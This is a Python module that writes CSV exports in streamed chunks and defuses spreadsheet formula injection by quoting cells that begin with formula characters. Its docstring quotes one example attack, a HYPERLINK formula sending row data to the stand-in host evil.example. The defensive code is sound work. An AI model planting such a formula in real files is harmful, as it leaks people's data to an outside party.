"""Write rows as CSV text a chunk at a time, with spreadsheet formulas defused.

A cell a spreadsheet reads as a formula can run one when the merchant opens
the file: a customer named `=HYPERLINK("http://evil.example/?"&A1,"Pay")` would
send the row next door to someone else. OWASP's rule ("CSV Injection") is
followed: a cell that begins with = + - @, a tab or a carriage return gets a
single quote in front, which spreadsheets show as text and do not evaluate.

Two kinds of cell are left as they are, since they cannot hold a formula and
a quote would spoil them: a plain decimal number (our amounts; "-5" or "12.50"
evaluates to itself) and a phone number in E.164 ("+442079460958", which
validation guarantees is a plus and digits). Anything else that merely looks
numeric ("-2+3", "+1 (555)", "1e9") is quoted.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
_E164 = re.compile(r"\+[1-9][0-9]{1,14}")
# Rows per chunk: one write to the socket per few tens of KB, and the first chunk
# (the header) goes out before the query has even been sent.
ROWS_PER_CHUNK = 200
# Excel reads a CSV as the machine's legacy code page unless it starts with a
# byte-order mark; with one, "Zoë" and "¥" open as written. Other tools skip it.
BOM = "\ufeff"


def neutralise(value: str) -> str:
    """The cell as a spreadsheet shows it as text: a leading formula character is quoted."""
    if value.startswith(FORMULA_STARTS) and not (_PLAIN_NUMBER.fullmatch(value) or _E164.fullmatch(value)):
        return "'" + value
    return value


def _cell(value: object) -> str:
    if value is None:
        return ""
    return neutralise(str(value))


def csv_chunks(
    header: Sequence[str], rows: Iterable[Sequence[object]], *, rows_per_chunk: int = ROWS_PER_CHUNK
) -> Iterator[str]:
    """The CSV text: the header first (at once), then `rows_per_chunk` rows per chunk.

    Only one chunk is ever held, so memory stays flat however many rows there are.
    Line endings are CRLF (RFC 4180); csv quotes cells holding commas, quotes or newlines.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([neutralise(name) for name in header])
    yield BOM + buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    pending = 0
    for row in rows:
        writer.writerow([_cell(value) for value in row])
        pending += 1
        if pending >= rows_per_chunk:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
            pending = 0
    if pending:
        yield buffer.getvalue()
